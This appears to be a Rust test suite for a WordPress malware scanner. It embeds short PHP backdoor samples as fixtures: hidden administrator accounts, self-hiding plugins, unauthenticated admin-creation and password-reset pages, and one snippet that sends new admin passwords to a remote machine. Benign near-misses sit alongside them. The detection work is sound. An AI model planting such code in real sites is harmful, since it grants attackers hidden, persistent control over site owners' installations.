//! Tests of [`super`]: WordPress persistence in minimal shapes, and the plugins and tests that
//! look like it without hiding anything.

use super::poses_as_wordpress;
use crate::detect::{Danger, Why};
use crate::php::tokenize_for_test;

fn found(src: &str) -> Vec<(Why, Danger)> {
    let t = tokenize_for_test(src.as_bytes(), usize::MAX);
    super::analyze(src.as_bytes(), &t).into_iter().map(|s| (s.why, s.danger)).collect()
}

#[test]
fn an_administrator_left_out_of_the_users_query_is_hidden() {
    let by_id = r#"<?php add_action('pre_user_query', function ($q) {
        global $wpdb; $id = get_option('_support_uid');
        if ($id) { $q->query_where .= " AND {$wpdb->users}.ID != " . intval($id); } });"#;
    assert_eq!(found(by_id), [(Why::HiddenAdministrator, Danger::High)]);
    let by_login = r#"<?php add_action('pre_user_query', 'hide_it');
        function hide_it($q) { global $wpdb; $q->query_where .= " AND {$wpdb->users}.user_login <> 'helper'"; }"#;
    assert_eq!(found(by_login), [(Why::HiddenAdministrator, Danger::High)]);
    let not_in = r#"<?php add_action('pre_user_query', function ($q) { $q->query_where .= ' AND ID NOT IN (' . get_option('x') . ')'; });"#;
    assert_eq!(found(not_in), [(Why::HiddenAdministrator, Danger::High)]);
    // `pre_get_users` with the user's ID added to `exclude`.
    let excluded = r#"<?php add_action('pre_get_users', function ($query) { $u = get_user_by('login', 'asu');
        $ex = (array) $query->get('exclude'); $ex[] = $u->ID; $query->set('exclude', $ex); });"#;
    assert_eq!(found(excluded), [(Why::HiddenAdministrator, Danger::High)]);
    // fresh118's `bplog.php`: that hook kept in a nowdoc, appended to the theme's functions.php.
    let written = "<?php $f = get_theme_root() . '/functions.php';\n$code = <<<'EOD'\n".to_owned()
        + "add_action('pre_get_users', function($query) { $u = get_user_by('login', 'asu'); $query->set('exclude', [$u->ID]); });\n"
        + "EOD;\nfile_put_contents($f, $code, FILE_APPEND);";
    assert_eq!(found(&written), [(Why::HiddenAdministrator, Danger::High)]);
    // A users' hook that sorts: quiet, kept in a literal or not.
    let sorts = "<?php $c = \"add_action('pre_get_users', function($q) { $q->set('orderby', 'registered'); });\";";
    assert_eq!(found(sorts), []);
}

#[test]
fn a_users_query_hook_that_sorts_or_filters_by_role_hides_no_one() {
    // Membership plugins change the users query for their own columns.
    let order = r#"<?php add_action('pre_user_query', function ($q) { $q->query_orderby = 'ORDER BY user_registered DESC'; });"#;
    assert_eq!(found(order), []);
    let paid = r#"<?php add_action('pre_user_query', function ($q) { global $wpdb;
        $q->query_where .= " AND {$wpdb->usermeta}.meta_value != 'expired'"; });"#;
    assert_eq!(found(paid), []);
    // An `ID !=` elsewhere in a file without the hook.
    assert_eq!(found(r#"<?php $wpdb->get_results("SELECT * FROM t WHERE ID != 1");"#), []);
}

#[test]
fn a_plugin_that_hides_from_the_plugin_list_is_malware_posing_as_a_plugin() {
    let hide = r#"<?php /* Plugin Name: Site Kit Helper */
        add_filter('all_plugins', function ($plugins) { unset($plugins[plugin_basename(__FILE__)]); return $plugins; });"#;
    assert_eq!(found(hide), [(Why::HidesItsPlugin, Danger::Medium)]);
    let and_stays = format!(
        "{hide}\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($a) {{ unset($a['deactivate']); return $a; }});"
    );
    assert_eq!(found(&and_stays), [(Why::HidesItsPlugin, Danger::High)]);
    // The link's key taken out after another one.
    let second = format!(
        "{hide}\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($a) {{ unset($a['edit'], $a['deactivate']); return $a; }});"
    );
    assert_eq!(found(&second), [(Why::HidesItsPlugin, Danger::High)]);
    let phones_home = format!("{hide}\n$r = wp_remote_get('https://upd.example.net/check');");
    assert_eq!(found(&phones_home), [(Why::HidesItsPlugin, Danger::High)]);
}

#[test]
fn a_plugin_that_hides_by_a_constant_of_its_own_name_is_found() {
    // fresh36's fake plugins: the entry's key kept in a constant made from the file's name.
    let hide = r#"<?php /* Plugin Name: ls-oembed */
        define('SF_BASENAME', basename(__DIR__));
        define('SF_PLUGIN', SF_BASENAME . DIRECTORY_SEPARATOR . basename(__FILE__));
        function sf_hide($plugins) { if (is_plugin_active(SF_PLUGIN)) { unset($plugins[SF_PLUGIN]); } return $plugins; }
        add_filter('all_plugins', 'sf_hide');"#;
    assert_eq!(found(hide), [(Why::HidesItsPlugin, Danger::Medium)]);
    // A constant of another name taken out of the list (a plugin manager hiding a bundled one
    // by its written name) is not its own.
    let other = hide.replace("unset($plugins[SF_PLUGIN])", "unset($plugins[BUNDLED_ADDON])");
    assert_eq!(found(&other), []);
}

#[test]
fn an_administrator_with_a_written_password_counts_only_in_a_plugin_that_hides() {
    let make = r#"<?php add_action('init', function () {
        if (!username_exists('wpcore')) { wp_insert_user(array('user_login' => 'wpcore', 'user_pass' => 'Xk29!pq', 'role' => 'administrator')); } });"#;
    // A test suite's or an installer's fixture makes one too.
    assert_eq!(found(make), []);
    let hiding = format!(
        "{make}\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($a) {{ unset($a['deactivate']); return $a; }});"
    );
    assert_eq!(found(&hiding), [(Why::HiddenAdministrator, Danger::High)]);
    let created = r#"<?php wp_create_user('maint', 'S3cret!x', 'm@example.net');
        add_filter('all_plugins', function ($p) { unset($p[plugin_basename(__FILE__)]); return $p; });
        (new WP_User(username_exists('maint')))->set_role('administrator');"#;
    assert_eq!(found(created), [(Why::HiddenAdministrator, Danger::High), (Why::HidesItsPlugin, Danger::High)]);
}

#[test]
fn a_plugin_hiding_the_entries_it_lists_hides_itself() {
    // fresh78's kit: the plugin's own entries written in a list, taken out of the plugins' list
    // unless the request asks for all.
    let listed = r#"<?php add_filter('all_plugins', function ($plugins) {
        if (!array_key_exists('show_all', $_GET)) { $hidden = ['External-Script/index.php', 'index.php'];
        foreach ($hidden as $h) { unset($plugins[$h]); } } return $plugins; });"#;
    assert_eq!(found(listed), [(Why::HidesItsPlugin, Danger::Medium)]);
    let named = r#"<?php add_filter('all_plugins', function ($p) { if (!isset($_GET['all'])) { unset($p['wp-core-fonts/wp-core-fonts.php']); } return $p; });"#;
    assert_eq!(found(named), [(Why::HidesItsPlugin, Danger::Medium)]);
    // Regressions (review): an agency hiding other plugins from its clients, and a theme's
    // companion taking a bundled plugin out of the update list.
    let agency = r#"<?php add_filter('all_plugins', function ($plugins) { if (current_user_can('manage_network')) return $plugins;
        $hidden = array('wp-mail-smtp/wp_mail_smtp.php', 'updraftplus/updraftplus.php'); foreach ($hidden as $p) { unset($plugins[$p]); } return $plugins; });"#;
    assert_eq!(found(agency), []);
    let companion = r#"<?php add_filter('site_transient_update_plugins', function ($value) { unset($value->response['js_composer/js_composer.php']); return $value; });
        add_filter('all_plugins', function ($p) { $p['x/x.php']['Name'] = 'Theme Core'; return $p; });"#;
    assert_eq!(found(companion), []);
    // Near-miss: a list of something else than plugins' entries.
    let other = listed.replace("['External-Script/index.php', 'index.php']", "['hello', 'world']");
    assert_eq!(found(&other), []);
}

#[test]
fn white_label_plugins_that_hide_other_plugins_are_not_reported() {
    // An agency's white-label setting hides the plugins the owner picked, not itself.
    let other = r#"<?php add_filter('all_plugins', function ($plugins) {
        foreach (get_option('wl_hidden', array()) as $p) { unset($plugins[$p]); } return $plugins; });"#;
    assert_eq!(found(other), []);
    // A plugin that rewrites its own description in the list, and unsets other things.
    let own_text = r#"<?php add_filter('all_plugins', array('Spam_Admin', 'describe'));
        add_filter('plugin_action_links_' . plugin_basename(__FILE__), array('Spam_Admin', 'settings_link'));
        if ($file == plugin_basename(__FILE__)) { $x = 1; } unset(self::$notices[$k]); unset($links['settings']);"#;
    assert_eq!(found(own_text), []);
}

#[test]
fn a_drop_in_that_makes_an_administrator_and_shows_its_password_is_a_backdoor() {
    // fresh116's `wp-admin.php`: WordPress loaded from outside, an administrator made with a
    // generated password, the password printed for whoever opens the page.
    let drop = r#"<?php require_once('wp-load.php'); $password = wp_generate_password(16);
        $id = wp_create_user('superadmin', $password, 'a@example.com'); $u = new WP_User($id); $u->set_role('administrator');
        echo "Password: <strong>" . esc_html($password) . "</strong>";"#;
    assert_eq!(found(drop), [(Why::AdminBackdoor, Danger::High)]);
    // The same page that shows nothing of the password.
    let quiet = drop.replace(r#"echo "Password: <strong>" . esc_html($password) . "</strong>";"#, "echo 'Done';");
    assert_eq!(found(&quiet), []);
}

#[test]
fn a_script_loading_wordpress_to_make_an_administrator_is_a_backdoor() {
    // fresh67's `add.php`: the settings file's name joined from pieces, then a written password.
    let dropped = r#"<?php $config = "../"."wp"."-"."config".".php"; include_once($config);
        $id = wp_insert_user(array('user_login' => 'administrator', 'user_pass' => 'Secret1337',
        'user_email' => 'x@example.com', 'role' => 'administrator')); echo "User added";"#;
    assert_eq!(found(dropped), [(Why::HiddenAdministrator, Danger::High)]);
    // A plugin's own installer makes an administrator inside WordPress, without loading it.
    let inside = r#"<?php function demo_setup() { wp_insert_user(array('user_login' => 'demo',
        'user_pass' => 'demo', 'role' => 'administrator')); } register_activation_hook(__FILE__, 'demo_setup');"#;
    assert!(found(inside).is_empty());
    // A tool that loads WordPress and makes a user whose password it is given.
    let given = r#"<?php require '../wp-load.php'; wp_insert_user(array('user_login' => $argv[1],
        'user_pass' => $argv[2], 'role' => 'administrator'));"#;
    assert!(found(given).is_empty());
}

#[test]
fn a_script_loading_wordpress_to_write_the_visitors_posts_is_a_spam_control() {
    // fresh72's `wp-blog-post.php`: WordPress searched for up the folders, the visitor's post added.
    let poster = r#"<?php for ($i = 0; $i <= 6; $i++) { $prefix = implode("", array_fill(1, $i, "../"));
        $h = $prefix . "wp-blog-header.php"; if (file_exists($h)) { require_once($h); break; } }
        $p = array('post_title' => $_POST['title'], 'post_content' => $_POST['body'], 'post_status' => 'publish');
        wp_insert_post($p);"#;
    assert_eq!(found(poster), [(Why::RemoteSpamControl, Danger::High)]);
    let appender = r#"<?php require_once('../wp-blog-header.php');
        $wpdb->query("Update `$wpdb->posts` Set post_content = CONCAT(post_content, '" . $_POST['body'] . "') Where ID = 7");"#;
    assert_eq!(found(appender), [(Why::RemoteSpamControl, Danger::High)]);
    // A plugin's form writes posts inside WordPress, and an importer that loads WordPress
    // writes what its own files say.
    let inside = "<?php add_action('init', function () { if (isset($_POST['t'])) { wp_insert_post(array('post_title' => sanitize_text_field($_POST['t']))); } });";
    assert!(found(inside).is_empty());
    let importer = "<?php require 'wp-load.php'; foreach (glob('posts/*.txt') as $f) { wp_insert_post(array('post_content' => file_get_contents($f))); }";
    assert!(found(importer).is_empty());
    // WordPress 3.0's own `xmlrpc.php`: it reads `$_GET['rsd']`, but posts what XML-RPC parsed.
    let xmlrpc = "<?php include('./wp-load.php'); if (isset($_GET['rsd'])) { echo 'rsd'; exit; }\n\
                  function mw_newPost($args) { $postdata = compact('post_author', 'post_title', 'post_content'); $id = wp_insert_post($postdata, true); }";
    assert!(found(xmlrpc).is_empty());
}

#[test]
fn a_page_from_outside_wordpress_making_an_account_of_any_role_is_a_backdoor() {
    // Regression: fresh106's `login.php` loads the settings file and writes the user and the
    // role the visitor picks straight into the database, for anyone who opens it.
    let page = "<?php require_once($_SERVER['DOCUMENT_ROOT'] . '/wp-config.php');\n\
                function add($u, $p, $role) { global $wpdb; $wpdb->insert($wpdb->users, array('user_login' => $u, 'user_pass' => wp_hash_password($p)));\n\
                $wpdb->insert($wpdb->usermeta, array('user_id' => $wpdb->insert_id, 'meta_key' => $wpdb->prefix . 'capabilities', 'meta_value' => serialize(array($role => true)))); }\n\
                if (isset($_POST['username'])) { add($_POST['username'], $_POST['password'], $_POST['role']); }";
    assert_eq!(found(page), [(Why::AdminBackdoor, Danger::High)]);
    // Behind WordPress's own permission check, it is an administrator's tool.
    let checked = page.replace(
        "if (isset($_POST['username']))",
        "if (current_user_can('create_users') && isset($_POST['username']))",
    );
    assert!(found(&checked).is_empty(), "{:?}", found(&checked));
    // A plugin's registration form (inside WordPress) picks no role from the request.
    let plugin = "<?php function reg() { $id = wp_insert_user(array('user_login' => $_POST['u'], 'user_pass' => $_POST['p'], 'role' => 'subscriber')); }";
    assert!(found(plugin).is_empty());
}

#[test]
fn an_administrators_row_inserted_when_a_request_asks_is_a_backdoor() {
    // Regression: fresh113's WP-VCD `class.wp.php` writes user 1001010 and its administrator's
    // role into the tables on `?awu`, each literal in escape codes.
    let vcd = "<?php require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php'; $t = $wpdb->get_blog_prefix(); $s = \"a:1:{\\x73:13:\\\"administrator\\\";b:1;}\";\n\
               if (isset($_GET['awu'])) { $wpdb->query(\"\\x49NSERT INTO $wpdb->users (`ID`, `user_login`, `user_pass`) VALUES ('1001010', '1001010', '\\$P\\$B3PJXeorEqVMl')\");\n\
               $wpdb->query(\"INSERT INTO $wpdb->usermeta (`user_id`, `meta_key`, `meta_value`) VALUES ('1001010', '{$t}capabilities', '{$s}')\"); }";
    assert_eq!(found(vcd), [(Why::AdminBackdoor, Danger::High)]);
    // An installer behind the administrator's own check.
    let installer =
        vcd.replace("if (isset($_GET['awu']))", "if (current_user_can('manage_options') && isset($_GET['awu']))");
    assert!(found(&installer).is_empty(), "{:?}", found(&installer));
}

#[test]
fn any_users_password_rewritten_for_whoever_asks_is_a_backdoor() {
    // Regression: fresh131's `wp-user-password-reset.php` loads WordPress, lists the users and
    // sets the chosen one's password from the form, with no login.
    let reset = "<?php require \"wp-load.php\"; global $wpdb; $users = $wpdb->get_results(\"SELECT * FROM $wpdb->users\");\n\
                 if ($_POST) { $pass = md5($_POST['password']); $user = esc_sql($_POST['user']);\n\
                 $x = $wpdb->query(\"UPDATE $wpdb->users SET user_pass = '$pass' WHERE user_login = '$user' \"); }";
    assert_eq!(found(reset), [(Why::AdminBackdoor, Danger::High)]);
    // Behind an administrator's check, it is a tool of the site's.
    let tool = reset.replace("if ($_POST)", "if ($_POST && current_user_can('edit_users'))");
    assert!(found(&tool).is_empty(), "{:?}", found(&tool));
}

#[test]
fn a_fallback_administrator_kept_out_of_the_users_list_by_a_meta_query_is_hidden() {
    // Regression: fresh119's "Security Measures" plugin makes `hostinger` and leaves users
    // with its mark out of the users' list.
    let plugin = "<?php add_action('init', function () { if (!username_exists('hostinger')) { $id = wp_create_user('hostinger', $pass, $mail);\n\
                  wp_update_user(['ID' => $id, 'role' => 'administrator']); update_user_meta($id, 'is_fallback_admin', '1'); } });\n\
                  add_filter('pre_get_users', function ($q) { $q->query_vars['meta_query'][] = ['key' => 'is_fallback_admin', 'compare' => 'NOT EXISTS']; return $q; });";
    assert_eq!(found(plugin), [(Why::HiddenAdministrator, Danger::High)]);
}

#[test]
fn administrators_given_new_passwords_sent_to_another_machine_is_a_backdoor() {
    // The wp2021 capture's `qhrxh.php`: each administrator's password changed to a random one
    // and sent to the file's master.
    let src = "<?php function resPass() { $adms = get_users(['role' => 'Administrator']);\n\
               foreach ($adms as $a) { $p = wp_generate_password(7); wp_set_password($p, $a->ID);\n\
               $ch = curl_init($this->au); curl_setopt($ch, CURLOPT_POSTFIELDS, 'nsrees=' . $p); curl_exec($ch); } }";
    assert_eq!(found(src), [(Why::AdminBackdoor, Danger::High)]);
    // A password reset behind a permission check, or one that calls no one: the site's own.
    let checked =
        src.replace("function resPass() {", "function resPass() { if (!current_user_can('manage_options')) return;");
    assert!(found(&checked).is_empty());
    assert!(found(&src.replace("curl_exec($ch);", "wp_mail($a->user_email, 'New password', $p);")).is_empty());
}

#[test]
fn a_plugin_signed_by_wordpress_itself_poses_as_the_core() {
    // fresh156's `WPCoreSys` and wp2021's `wp-core-module.php`.
    let fake =
        "<?php\n\n/*\n* Plugin Name: WPCoreSys\n* Version: 3.1\n* Author: Wordpress\n*/\n\nerror_reporting(0);\n";
    assert!(poses_as_wordpress(fake.as_bytes()).is_some());
    // (Saved with doubled carriage returns, as fresh156's second copy.)
    assert!(poses_as_wordpress(fake.replace('\n', "\r\r\n").as_bytes()).is_some());
    // The core's own plugins are signed by their teams; a theme's template names no plugin.
    for own in [
        "<?php\n/**\n * Plugin Name: Classic Editor\n * Author: WordPress Contributors\n */\n",
        "<?php\n/*\nPlugin Name: Akismet Anti-spam\nAuthor: Automattic - Anti-spam Team\n*/\n",
        "<?php\n/* Author: WordPress */\necho 'template';\n",
    ] {
        assert!(poses_as_wordpress(own.as_bytes()).is_none(), "{own}");
    }
}
